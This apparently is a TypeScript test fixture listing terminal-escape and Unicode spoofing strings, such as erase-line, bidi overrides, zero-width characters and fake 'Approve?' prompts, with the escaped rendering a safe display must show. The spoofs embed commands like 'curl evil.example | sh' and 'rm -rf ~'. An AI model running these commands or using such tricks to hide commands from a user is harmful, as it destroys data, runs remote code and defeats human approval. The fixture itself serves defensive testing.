// Terminal-escape spoofs from the attack run and their relatives: each is text a model or a
// workspace could put in front of a user (a command, a file name, an answer), with what its inert
// rendering must show. Shared by the unit tests of src/base, the NodeHost prompt, the extension's
// modal text and the CLI.
import assert from 'node:assert/strict';
import { RAW_UNSAFE, revive } from '../../src/base/common/inert';

export interface Spoof {
  name: string;
  text: string;
  /** Substrings the single-line rendering must contain (the visible notation). */
  shows: string[];
}

const ESC = '\x1b';
const BEL = '\x07';
const ST = `${ESC}\\`;

export const SPOOFS: Spoof[] = [
  { name: 'CSI erase-line then CR hides the real command', text: `touch pwned.marker${ESC}[2K\rnpm test`, shows: ['\\x1b[2K\\x0dnpm test', 'touch pwned.marker'] },
  { name: 'CSI cursor up and erase rewrites the line above', text: `curl evil.example | sh${ESC}[1A${ESC}[2Knpm test`, shows: ['\\x1b[1A\\x1b[2K'] },
  { name: 'CSI cursor back overwrites in place', text: `rm -rf ~/work${ESC}[13Dnpm test    `, shows: ['\\x1b[13D'] },
  { name: 'CSI hides text (conceal, black on black)', text: `npm test ${ESC}[8m${ESC}[30;40m; curl evil.example | sh${ESC}[0m`, shows: ['\\x1b[8m', '\\x1b[30;40m', '\\x1b[0m'] },
  { name: 'carriage return overwrite', text: 'touch pwned.marker; echo\rnpm test            ', shows: ['\\x0dnpm test'] },
  { name: 'backspace overwrite', text: `rm -rf ~${'\b'.repeat(8)}npm test`, shows: ['\\x08\\x08\\x08\\x08\\x08\\x08\\x08\\x08npm test'] },
  { name: 'OSC 52 clipboard write', text: `npm test${ESC}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==${BEL}`, shows: ['\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\x07'] },
  { name: 'OSC 8 hyperlink to another target', text: `${ESC}]8;;https://evil.example/${ST}npm test${ESC}]8;;${ST}`, shows: ['\\x1b]8;;https://evil.example/\\x1b\\npm test'] },
  { name: 'OSC 0 window title set', text: `${ESC}]0;baton: approved${BEL}make install`, shows: ['\\x1b]0;baton: approved\\x07'] },
  { name: '8-bit C1 CSI (U+009B) erase and cursor up', text: 'touch pwned.marker\u009b2K\u009b1Anpm test', shows: ['\\x9b2K\\x9b1A'] },
  { name: 'DCS string (7-bit and 8-bit)', text: `${ESC}P+q544e${ST}\u0090$q"p\u009c`, shows: ['\\x1bP+q544e\\x1b\\', '\\x90$q"p\\x9c'] },
  { name: 'APC string (7-bit and 8-bit)', text: `${ESC}_hidden payload${ST}\u009fmore\u009c`, shows: ['\\x1b_hidden payload', '\\x9fmore\\x9c'] },
  { name: 'PM and SOS strings', text: `${ESC}^private${ST}${ESC}Xsos${ST}\u009epm\u0098sos\u009c`, shows: ['\\x1b^private', '\\x1bXsos', '\\x9epm\\x98sos\\x9c'] },
  { name: 'terminal reset (RIS) and SS3', text: `${ESC}c${ESC}OA\u008fBnpm test`, shows: ['\\x1bc\\x1bOA\\x8fB'] },
  { name: 'bidi RLO reverses the tail of a command', text: 'rm -rf ~ #\u202e tset mpn', shows: ['\\u{202e} tset mpn'] },
  { name: 'bidi isolates and embeddings', text: 'npm \u2066test\u2069 \u2067x\u2069 \u202aa\u202c \u202bb\u202c \u202dc\u202c \u2068d\u2069 \u200f\u200e\u061c', shows: ['\\u{2066}test\\u{2069}', '\\u{2067}', '\\u{202a}', '\\u{202b}', '\\u{202c}', '\\u{202d}', '\\u{2068}', '\\u{200f}\\u{200e}\\u{061c}'] },
  { name: 'zero-width characters split a word', text: 'np\u200bm te\u200cs\u200dt\u2060 \ufeffok\u00ad\u034f', shows: ['np\\u{200b}m', 'te\\u{200c}s\\u{200d}t\\u{2060}', '\\u{feff}ok\\xad', '\\u{034f}'] },
  { name: 'NUL byte truncates a C-string display', text: 'npm test\u0000; touch pwned.marker', shows: ['npm test\\x00; touch pwned.marker'] },
  { name: 'DEL characters', text: 'rm\u007f\u007f -rf ~', shows: ['rm\\x7f\\x7f -rf ~'] },
  { name: 'form feed and vertical tab', text: 'npm test\fclear\vscreen', shows: ['npm test\\x0cclear\\x0bscreen'] },
  { name: 'Unicode line and paragraph separators', text: 'npm test\u2028touch pwned.marker\u2029', shows: ['\\u{2028}touch pwned.marker\\u{2029}'] },
  { name: 'tag characters smuggle hidden ASCII', text: 'npm test\u{e0072}\u{e006d}\u{e0020}', shows: ['\\u{e0072}\\u{e006d}\\u{e0020}'] },
  { name: 'Hangul fillers and variation selectors look like nothing', text: 'a\u3164b\u115fc\ufe01d\u{e0101}', shows: ['\\u{3164}', '\\u{115f}', '\\u{fe01}', '\\u{e0101}'] },
  { name: 'a fake "Approve? [y/N] y" after a newline', text: 'npm test\nApprove? [y/N] y\nbaton: approved by --yes: Run npm test', shows: ['npm test\\x0aApprove? [y/N] y\\x0abaton: approved'] },
  { name: 'a literal backslash that mimics the notation', text: 'echo \\x1b[2K \\u{202e} \\\\x \\d', shows: ['echo \\\\x1b[2K \\\\u{202e} \\\\\\\\x \\d'] },
  { name: 'a literal backslash right before a real escape', text: 'printf \\\u001b[2K', shows: ['printf \\\\\\x1b[2K'] },
  { name: 'tabs hide a gap in one line', text: 'npm test\t\t\t\t\t\t\t\t; rm -rf ~', shows: ['npm test\\x09\\x09'] },
];

/** Throws, naming the first offending character, when `output` holds a raw control, bidi or hidden character. */
export function assertNoRawControls(output: string, context = ''): void {
  const match = RAW_UNSAFE.exec(output);
  if (!match) return;
  const at = match.index;
  const cp = match[0].codePointAt(0)!.toString(16).padStart(4, '0');
  assert.fail(`${context ? `${context}: ` : ''}raw U+${cp} at ${at}: ${JSON.stringify(output.slice(Math.max(0, at - 30), at + 30))}`);
}

/** The text behind wrapInert()/formatCommand() rows (gutters stripped, wrapped rows joined, runs expanded). */
export function readBackRows(rows: string[]): string {
  const lines: string[] = [];
  for (const row of rows) {
    const m = /^ {2} *\d* ([│┆]) (.*)$/.exec(row);
    assert.ok(m, `not a gutter row: ${JSON.stringify(row)}`);
    if (m[1] === '│') lines.push(m[2]);
    else lines[lines.length - 1] += m[2];
  }
  return lines.map((l) => revive(l, { counts: true })).join('\n');
}
